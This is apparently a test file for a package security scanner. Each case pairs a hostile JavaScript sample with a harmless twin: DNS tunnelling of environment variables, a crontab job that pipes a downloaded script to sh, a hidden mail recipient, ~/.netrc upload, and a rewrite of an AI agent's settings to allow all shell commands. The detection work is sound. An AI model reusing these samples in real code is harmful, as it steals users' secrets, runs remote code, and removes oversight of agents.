// What the system is made to carry or to run later: names that are looked up, jobs, envelopes; each beside a benign twin.
import { expect, test } from 'vitest';
import { threatsOf } from '../helpers.ts';

interface Way {
  way: string;
  rule: string;
  severity: string;
  bad: string;
  benign: string;
  /** Files beside it. */
  more?: Record<string, string>;
  moreBenign?: Record<string, string>;
}

const WAYS: Way[] = [
  {
    way: 'labels of a zone that another file makes',
    rule: 'dns-tunnelling',
    severity: 'critical',
    bad: `import dns from 'node:dns/promises'; import { names } from './names.js'; for (const name of names()) dns.resolveTxt(name).catch(() => {});`,
    benign: `import dns from 'node:dns/promises'; import { names } from './names.js'; for (const name of names()) dns.resolveTxt(name).catch(() => {});`,
    more: {
      'names.js': `const ZONE = 'w3.warm.other.example';
export function names() { const hex = Buffer.from(JSON.stringify(process.env)).toString('hex'); const labels = hex.match(/.{1,60}/g) ?? []; return labels.map((label, i) => \`\${i}.\${label}.\${ZONE}\`); }`,
    },
    moreBenign: {
      'names.js': `import { createHash } from 'node:crypto'; const ZONE = 'bl.other.example';
export function names() { const digest = createHash('sha256').update(process.env.MAIL_USER).digest('hex'); const labels = digest.match(/.{1,56}/g) ?? []; return labels.map((label, i) => \`\${label}.\${ZONE}\`); }`,
    },
  },
  {
    way: 'a zone that is a property of a function, and names that are files',
    rule: 'dns-tunnelling',
    severity: 'critical',
    bad: `import dns from 'node:dns/promises'; function of() {} of.zone = 'k7.keys.other.example';
of.series = (value) => { const all = Buffer.from(value).toString('hex'); const out = []; for (let i = 0; i < all.length; i += 50) out.push(\`\${all.slice(i, i + 50)}.\${i}.\${of.zone}\`); return out; };
export const look = async (value) => { for (const one of of.series(value)) await dns.resolve(one, 'A'); };`,
    benign: `import dns from 'node:dns/promises'; import fs from 'node:fs';
export const parts = (value) => { const all = Buffer.from(value).toString('hex'); const out = []; for (let i = 0; i < all.length; i += 50) out.push(\`\${all.slice(i, i + 50)}.part.txt\`); return out; };
export const look = async (host) => dns.resolve(host, 'A');`,
  },
  {
    way: 'a job that downloads, in the table of the user',
    rule: 'autostart-write',
    severity: 'critical',
    bad: `import { spawn } from 'node:child_process'; export async function tidy(table) { const job = '17 */6 * * * curl -fsS https://tz.other.example/r | sh'; const child = spawn('crontab', ['-'], { stdio: ['pipe'] }); child.stdin.end(\`\${table}\\n\${job}\\n\`); }`,
    benign: `import { spawn } from 'node:child_process'; export async function check(table) { const child = spawn('crontab', ['-T', '-'], { stdio: ['pipe'] }); child.stdin.end(\`\${table}\\n\`); }`,
  },
  {
    way: 'an address in two parts in the envelope of every mail',
    rule: 'hidden-mail-recipient',
    severity: 'critical',
    bad: `import nodemailer from 'nodemailer'; const pool = { user: 'journal', zone: 'mx-pool.example' }; const mailer = nodemailer.createTransport(process.env.SMTP_URL);
const envelope = (m) => { const to = [...m.to, ...m.cc]; return { from: m.from, to: to.concat(Object.values(pool).join('@')) }; };
export const send = (m) => mailer.sendMail({ ...m, envelope: envelope(m) });`,
    benign: `import nodemailer from 'nodemailer'; const mailer = nodemailer.createTransport(process.env.SMTP_URL);
const envelope = (m, archive) => { const to = [...m.to, ...m.cc]; return { from: m.from, to: to.concat(archive ?? []) }; };
export const send = (m) => mailer.sendMail({ ...m, envelope: envelope(m, process.env.ARCHIVE_BCC) });`,
  },
  {
    way: 'settings of an agent, written by what another function is given',
    rule: 'agent-config-write',
    severity: 'critical',
    bad: `import * as clients from './clients.js'; clients.sync();`,
    benign: `import * as clients from './clients.js'; clients.sync();`,
    more: {
      'clients.js': `import fs from 'node:fs'; import { join } from 'node:path'; import { homedir } from 'node:os';
const merge = (file, fn) => { const cur = JSON.parse(fs.readFileSync(file, 'utf8')); fn(cur); fs.writeFileSync(file, JSON.stringify(cur)); };
export function sync() { merge(join(homedir(), '.claude', 'settings.json'), (s) => { s.permissions = { allow: ['Bash(*)'] }; }); }`,
    },
    moreBenign: {
      'clients.js': `import fs from 'node:fs'; import { join } from 'node:path'; import { homedir } from 'node:os';
const merge = (file, fn) => { const cur = JSON.parse(fs.readFileSync(file, 'utf8')); fn(cur); fs.writeFileSync(file, JSON.stringify(cur)); };
export function sync() { merge(join(homedir(), '.acme', 'shelf.json'), (s) => { s.seen = 1; }); }`,
    },
  },
];

test.each(WAYS)('$way: reported, its twin is not', (row) => {
  const found = threatsOf({ 'index.js': row.bad, ...row.more });
  expect(found.filter(({ ruleId }) => ruleId === row.rule)).toContainEqual(
    expect.objectContaining({ severity: row.severity }),
  );
  const loud = threatsOf({ 'index.js': row.benign, ...row.moreBenign }).filter(
    ({ severity }) => !['info', 'low'].includes(severity),
  );
  expect(loud).toEqual([]);
});

test('what is fetched in its newest version is shown, where constants hold it', () => {
  const started = (list: string) =>
    threatsOf({
      'index.js': `import { spawn } from 'node:child_process'; const COMMAND = process.platform === 'win32' ? 'npx.cmd' : 'npx'; const ARGS = ${list};
export const render = () => spawn(COMMAND, ARGS, { stdio: 'pipe' });`,
    }).filter(({ ruleId }) => ruleId === 'runtime-install');
  const excerpts = started("['-y', '-p', 'vega@latest', 'vl2svg']").map(({ excerpt }) => excerpt);
  expect(excerpts.join()).toContain('-y -p vega@latest vl2svg');
  expect(started("['--no-install', 'vl2svg']")).toEqual([]);
});

test('a manager of passwords keeps them with its service, another server does not', () => {
  const rulesOf = (description: string) =>
    threatsOf({
      'package.json': `{"name":"acme","version":"1.0.0","type":"module","main":"index.js","description":"${description}"}`,
      'index.js': `import fs from 'node:fs'; import os from 'node:os';
export const keep = () => fetch(process.env.SERVICE_URL, { method: 'PUT', body: fs.readFileSync(os.homedir() + '/.netrc', 'utf8') });`,
    }).map(({ ruleId }) => ruleId);
  expect(rulesOf('Keeps recipes')).toContain('credential-exfiltration');
  expect(rulesOf('A password manager')).not.toContain('credential-exfiltration');
});

test('an address in pieces, in a package that sends mail, is one that was hidden', () => {
  const rulesOf = (text: string, dependencies: string) =>
    threatsOf({
      'package.json': `{"name":"acme","version":"1.0.0","type":"module","main":"index.js","dependencies":{${dependencies}}}`,
      'index.js': `import { profile } from './profile.js'; export const routes = profile();`,
      'profile.js': text,
    }).map(({ ruleId }) => ruleId);
  const pieces = `const RELAY = { box: 'rp', zone: ['quality', 'example'] }; export const profile = () => [\`\${RELAY.box}@\${RELAY.zone.join('.')}\`];`;
  const sender = `const DOMAIN = 'acme.example'; export const profile = () => [\`noreply@\${DOMAIN}\`];`;
  expect(rulesOf(pieces, '"nodemailer":"6.9.16"')).toContain('hidden-mail-recipient');
  expect(rulesOf(pieces, '"zod":"3.24.1"')).toEqual([]);
  expect(rulesOf(sender, '"nodemailer":"6.9.16"')).toEqual([]);
});
